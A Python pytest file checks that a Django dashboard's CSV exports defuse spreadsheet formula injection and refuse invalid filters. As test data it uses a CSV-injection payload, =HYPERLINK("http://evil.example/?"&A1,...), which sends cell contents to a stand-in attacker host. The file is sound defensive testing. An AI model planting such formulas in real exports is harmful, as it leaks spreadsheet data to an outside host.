"""The staff exports are safe to open in a spreadsheet, and never cover another scope than
the one asked for.

A name that starts like a formula (=, +, -, @, a tab or a carriage return) is exported with an
apostrophe in front, so that a spreadsheet shows it instead of running it (OWASP: CSV
injection). An export with a filter that does not validate answers 400, where the page shows
the error and leaves the field out.
"""

from decimal import Decimal

import pytest
from django.urls import reverse

from dekking import exports
from tests.dekking.pages import csv_rows

NATIONAL = reverse("dekking:national")
AADORP = reverse("dekking:gemeente", args=["GM0001"])
NATIONAL_EXPORTS = ("gemeenten", "provincies", "trend", "themes", "demand")
MUNICIPAL_EXPORTS = ("wijken", "buurten", "trend", "themes", "demand", "load")
EXPORTS = [
    *[("national", table) for table in NATIONAL_EXPORTS],
    *[("gemeente", table) for table in MUNICIPAL_EXPORTS],
]
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
INVALID_FILTER = "No CSV made: a filter is not valid. Correct the filters and try again."


@pytest.fixture
def uncached(settings):
    # Each test exports the same scope before and after renaming.
    settings.DEKKING_CACHE_SECONDS = 0


def get(client, world, dashboard: str, query: dict, **headers):
    """The national dashboard as its national coordinator, Aadorp's as its coordinator."""
    user, url = {
        "national": (world.national, NATIONAL),
        "gemeente": (world.coordinator, AADORP),
    }[dashboard]
    client.force_login(user)
    return client.get(url, query, **headers)


def every_export(client, world) -> dict[tuple[str, str], list[list[str]]]:
    return {
        (dashboard, table): csv_rows(get(client, world, dashboard, {"export": table}))
        for dashboard, table in EXPORTS
    }


def rename(world, names: dict[str, str]) -> None:
    """A facilitator's first name and the names of a province, a gemeente, a wijk, a buurt
    and a theme, as {current name: new name}: each shows in at least one export."""
    for item, field in [
        (world.cees, "first_name"),  # load
        (world.utrecht, "name"),  # gemeenten, provincies
        (world.aadorp, "name"),  # gemeenten, demand
        (world.aadorp_zuid, "name"),  # wijken, buurten, demand
        (world.oost, "name"),  # buurten, demand
        (world.wonen, "name"),  # themes
    ]:
        setattr(item, field, names[getattr(item, field)])
        item.save(update_fields=[field])


def hostile(start: str, name: str) -> str:
    return f'{start}HYPERLINK("http://evil.example/?"&A1,"{name}")'


def with_names(exported: dict, names: dict[str, str]) -> dict:
    """The exports with every cell that held a name replaced, rows in a fixed order (a new
    name may sort elsewhere)."""
    return {
        key: [rows[0], *sorted([names.get(cell, cell) for cell in row] for row in rows[1:])]
        for key, rows in exported.items()
    }


# --- Formula injection -----------------------------------------------------------------------


def test_the_hyperlink_first_name_is_exported_as_text(client, world):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    world.cees.first_name = payload
    world.cees.save(update_fields=["first_name"])

    response = get(client, world, "gemeente", {"export": "load"})

    assert ["'" + payload, "0", "0", "0", "0", "0", "1", "0", "1"] in csv_rows(response)
    lines = response.content.decode().removeprefix("\ufeff").splitlines()
    assert not any(line.startswith(("=", '"=')) for line in lines)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_export_puts_an_apostrophe_before_a_name_that_starts_a_formula(
    client, world, uncached, start
):
    ordinary = every_export(client, world)
    names = {
        name: hostile(start, name)
        for name in ("Cees", "Utrecht", "Aadorp", "Aadorp-Zuid", "Oost", "Wonen")
    }
    rename(world, names)

    exported = every_export(client, world)

    defused = {name: "'" + new for name, new in names.items()}
    assert with_names(exported, {}) == with_names(ordinary, defused)
    cells = [cell for rows in exported.values() for row in rows for cell in row]
    assert set(defused.values()) <= set(cells)  # every hostile name was exported
    assert not [cell for cell in cells if cell.startswith(tuple(FORMULA_STARTS))]


def test_ordinary_names_and_numbers_are_exported_unchanged(client, world, uncached):
    ordinary = every_export(client, world)
    names = {
        "Cees": "Anne-Marie",
        "Utrecht": "Noord-Brabant",
        "Aadorp": "'s-Hertogenbosch",
        "Aadorp-Zuid": "Wijk 2 = Zuid",
        "Oost": "Oost +",
        "Wonen": "Wonen & zorg",
    }
    rename(world, names)

    exported = every_export(client, world)

    assert with_names(exported, {}) == with_names(ordinary, names)
    cells = [cell for rows in exported.values() for row in rows for cell in row]
    assert set(names.values()) <= set(cells)


def test_only_text_that_starts_a_formula_changes_in_a_csv():
    response = exports.csv_response(
        "test.csv",
        ["-", "Total"],
        [
            [-3, -0.5, Decimal("-1.50"), None, 0, 14.0],
            ["-3", "+31 6", "@anna", "\tx", "\rx", "=1+1"],
            ["Anna-Lies", "'s-Gravenhage", "a=b", "", " =1", "2026-03-02"],
        ],
    )

    assert csv_rows(response) == [
        ["'-", "Total"],
        ["-3", "-0.5", "-1.50", "", "0", "14.0"],
        ["'-3", "'+31 6", "'@anna", "'\tx", "'\rx", "'=1+1"],
        ["Anna-Lies", "'s-Gravenhage", "a=b", "", " =1", "2026-03-02"],
    ]


# --- Invalid filters ---------------------------------------------------------------------------


WRONG = [
    {"start": "2026-02-30"},  # no such day
    {"end": "gisteren"},
    {"start": "2030-01-01", "end": "2020-01-01"},  # start after end
    {"thema": "999999"},
    {"vorm": "dans"},
]
# (dashboard, filters that do not validate). The municipal dashboard has no province filter.
INVALID = [
    ("national", {"provincie": "PV99"}),
    ("national", {"provincie": "PV26", "start": "2026-02-30"}),
    *[(dashboard, query) for dashboard in ("national", "gemeente") for query in WRONG],
]


@pytest.mark.parametrize("language", ["en", "nl"])
def test_an_export_with_an_invalid_filter_is_refused(client, world, language):
    message = {
        "en": INVALID_FILTER,
        "nl": "Geen CSV gemaakt: een filter is niet geldig. Pas de filters aan en probeer het "
        "opnieuw.",
    }[language]

    for dashboard, query in INVALID:
        for table in NATIONAL_EXPORTS if dashboard == "national" else MUNICIPAL_EXPORTS:
            response = get(
                client,
                world,
                dashboard,
                {**query, "export": table},
                HTTP_ACCEPT_LANGUAGE=language,
            )

            assert response.status_code == 400, (dashboard, table, query)
            assert response["Content-Type"] == "text/plain; charset=utf-8"
            assert response["Content-Language"] == language
            assert response.content.decode() == message


def test_the_pages_still_show_an_invalid_filter_and_leave_it_out(client, world):
    for dashboard, query in INVALID:
        response = get(client, world, dashboard, query)

        assert response.status_code == 200, (dashboard, query)
        assert 'aria-invalid="true"' in response.content.decode()


def test_an_export_with_valid_filters_is_made(client, world):
    period = {"start": "2026-03-01", "end": "2026-03-12"}
    for dashboard, query in [
        ("national", {**period, "provincie": "PV26"}),
        ("national", {"start": "2026-03-12", "end": "2026-03-12", "vorm": "tafel"}),
        ("gemeente", {**period, "thema": str(world.wonen.pk), "vorm": "wandeling"}),
        ("gemeente", {"start": "2026-03-01"}),
        ("gemeente", {"end": "2026-03-12"}),
    ]:
        for table in NATIONAL_EXPORTS if dashboard == "national" else MUNICIPAL_EXPORTS:
            response = get(client, world, dashboard, {**query, "export": table})

            assert csv_rows(response)[0], (dashboard, table, query)
